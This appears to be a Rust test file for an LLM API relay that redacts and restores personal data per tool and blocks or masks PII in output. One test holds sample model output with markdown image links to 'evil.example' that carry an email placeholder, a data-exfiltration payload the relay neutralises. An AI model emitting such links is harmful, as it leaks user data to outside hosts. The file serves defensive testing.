//! What comes back to which tool, and what an answer may carry away, through the relay.

use super::gather::{stream, whole};
use super::*;
use crate::metrics::Outcome;
use alloc::format;
use alloc::string::String;

/// One address that the user gave, and one that a tool did; governed by `restoring`.
fn governed(restoring: Restoring, json: bool) -> Rc<Lease> {
    let lease = Lease::new(Record::default(), Millis(0));
    let mut vault = lease.vault.borrow_mut();
    vault.placeholder(Entity::Email, "bob@acme.com", Action::Redact, Origin::User);
    vault.placeholder(Entity::Email, "eve@acme.com", Action::Redact, Origin::ToolResult);
    vault.placeholder(Entity::CreditCard, "4539148803436467", Action::Redact, Origin::User);
    vault.govern(Returning { restoring, tools: offered(), json });
    drop(vault);
    lease
}

const ARGUMENTS: &str = r#"{\"a\":\"<EMAIL_0> <EMAIL_1> <CREDIT_CARD_0>\"}"#;

/// The arguments as they reach the client: in a stream, in a whole answer, and in one whose members stand the other way round.
fn arguments(name: &str, restoring: &Restoring) -> [String; 3] {
    let call = format!(r#"[{{"index":0,"function":{{"name":"{name}","arguments":"{ARGUMENTS}"}}}}]"#);
    let turned = format!(r#"[{{"index":0,"function":{{"arguments":"{ARGUMENTS}","name":"{name}"}}}}]"#);
    let event =
        format!("data: {{\"choices\":[{{\"index\":0,\"delta\":{{\"tool_calls\":{turned}}}}}]}}\n\ndata: [DONE]\n\n");
    let answer = |call: &str| format!(r#"{{"choices":[{{"index":0,"message":{{"tool_calls":{call}}}}}]}}"#);
    let run = |kind, text: &str| {
        let ended = Answer::new(kind, governed(restoring.clone(), false)).push_all(text.as_bytes().chunks(5));
        ended.finish(End::Complete).out
    };
    let plain = |text: &str| whole(&run(Kind::Json, text)).texts["0.tool_calls[0].function.arguments"].clone();
    let streamed = stream(&run(Kind::Events, &event)).texts["0.tool_calls[0].function.arguments"].clone();
    [streamed, plain(&answer(&call)), plain(&answer(&turned))]
}

#[test]
fn each_tool_gets_what_its_rule_says() {
    let types = ToolRule::Types(gather([Entity::CreditCard]));
    let [all, none] =
        [r#"{"a":"bob@acme.com eve@acme.com 4539148803436467"}"#, r#"{"a":"<EMAIL_0> <EMAIL_1> <CREDIT_CARD_0>"}"#];
    let cards = r#"{"a":"<EMAIL_0> <EMAIL_1> 4539148803436467"}"#;
    // A name that comes behind the arguments comes too late: what all tools of the request get is what these get.
    let rows = [
        ("note", rules(&[]), [all, all, none]),
        ("send", rules(&[]), [none, none, none]),
        ("fetch_page", rules(&[]), [none, none, none]),
        ("send", rules(&[("send", ToolRule::All)]), [all, all, all]),
        ("note", rules(&[("n*", types.clone()), ("send", ToolRule::All)]), [cards, cards, cards]),
        ("note", rules(&[("*", types), ("note", ToolRule::None)]), [none, none, none]),
    ];
    for (name, restoring, expected) in rows {
        assert_eq!(arguments(name, &restoring), expected, "{name}");
    }
}

#[test]
fn values_of_other_tools_enter_no_arguments() {
    let restoring = Restoring { same_origin: true, ..rules(&[("*", ToolRule::All)]) };
    let expected = r#"{"a":"bob@acme.com <EMAIL_1> 4539148803436467"}"#;
    assert_eq!(arguments("note", &restoring), [expected; 3]);
    let text = r#"{"choices":[{"index":0,"message":{"content":"<EMAIL_1>"}}]}"#;
    let ended = Answer::new(Kind::Json, governed(restoring, false)).push(text.as_bytes()).finish(End::Complete);
    assert_eq!(whole(&ended.out).texts["0.content"], "eve@acme.com");
}

#[test]
fn content_that_was_asked_for_as_json_stays_json() {
    let lease = governed(Restoring::default(), true);
    lease.vault.borrow_mut().placeholder(Entity::Email, "\"o\"@acme.com", Action::Redact, Origin::User);
    let text = r#"{"choices":[{"index":0,"message":{"content":"{\"to\":\"<EMAIL_2>\"}"}}]}"#;
    let ended = Answer::new(Kind::Json, lease).push_all(text.as_bytes().chunks(3)).finish(End::Complete);
    assert_eq!(whole(&ended.out).texts["0.content"], r#"{"to":"\"o\"@acme.com"}"#);
}

#[test]
fn what_would_carry_something_away_is_neutralised_and_counted() {
    let delta = |text: &str| {
        format!(
            "data: {{\"choices\":[{{\"index\":0,\"delta\":{{\"content\":\"{text}\"}},\"finish_reason\":null}}]}}\n\n"
        )
    };
    let deltas = [
        "see ![x](http",
        "s://evil.example/",
        "?q=<EMA",
        "IL_0>&b=",
        "\\u0031) and <EMAIL_0>",
        " ![x](//evil.example/EMAIL_0",
    ];
    let end = "data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\ndata: [DONE]\n\n";
    let bytes: String = deltas.map(delta).into_iter().chain([end.into()]).collect();
    let run = |most: usize| {
        let answer = Answer::new(Kind::Events, governed(Restoring::default(), false));
        answer.push_all(bytes.as_bytes().chunks(most)).finish(End::Complete)
    };
    let whole = run(bytes.len());
    let expected = "see ![x](about:blank#lethe-neutralised) and bob@acme.com ![x](about:blank#lethe-neutralised";
    assert_eq!(stream(&whole.out).texts["0.content"], expected);
    assert_eq!((whole.record.neutralised, whole.record.restored, whole.record.outcome), (2, 1, Outcome::Answered));
    for most in 1..40 {
        assert!(run(most).out == whole.out, "in pieces of {most}");
    }
}

#[test]
fn what_the_output_policy_blocks_ends_the_answer_before_its_first_byte() {
    let watching = |action| Restoring {
        output: crate::redact::Actions::default().with(Entity::Email, action),
        ..Restoring::default()
    };
    let empty = |action| {
        let lease = Lease::new(Record::default(), Millis(0));
        lease.vault.borrow_mut().govern(Returning { restoring: watching(action), ..Returning::default() });
        lease
    };
    let delta =
        |text: &str| format!("data: {{\"choices\":[{{\"index\":0,\"delta\":{{\"content\":\"{text}\"}}}}]}}\n\n");
    for ending in
        ["data: [DONE]\n\n", "data: {\"choices\":[{\"index\":0,\"delta\":{},\"finish_reason\":\"stop\"}]}\n\n"]
    {
        let deltas = ["I know ca", "rla@acme-hea", "lth.com"].map(delta);
        let bytes: String = deltas.into_iter().chain([ending.into()]).collect();
        for most in [3, 60, 1_000] {
            let run = |action| {
                Answer::new(Kind::Events, empty(action)).push_all(bytes.as_bytes().chunks(most)).finish(End::Complete)
            };
            let ended = run(Action::Block);
            let out = core::str::from_utf8(&ended.out).unwrap();
            assert!(out.contains("\"output_blocked\"") && !out.contains("ca\"") && !out.contains("carla"), "{out}");
            assert_eq!((ended.record.outcome, ended.record.leaks), (Outcome::Broken, 1));
            let ended = run(Action::Mask);
            assert_eq!(stream(&ended.out).texts["0.content"], "I know [EMAIL]");
            assert_eq!((ended.record.outcome, ended.record.leaks), (Outcome::Answered, 1));
        }
    }
    let text = br#"{"choices":[{"index":0,"message":{"content":"I know carla@acme-health.com"}}]}"#;
    let ended = Answer::new(Kind::Json, empty(Action::Block)).push(text).finish(End::Complete);
    assert!(ended.close == Close::Abort && !core::str::from_utf8(&ended.out).unwrap().contains("carla"));
    let ended = Answer::new(Kind::Json, empty(Action::Mask)).push(text).finish(End::Complete);
    assert_eq!(whole(&ended.out).texts["0.content"], "I know [EMAIL]");
}
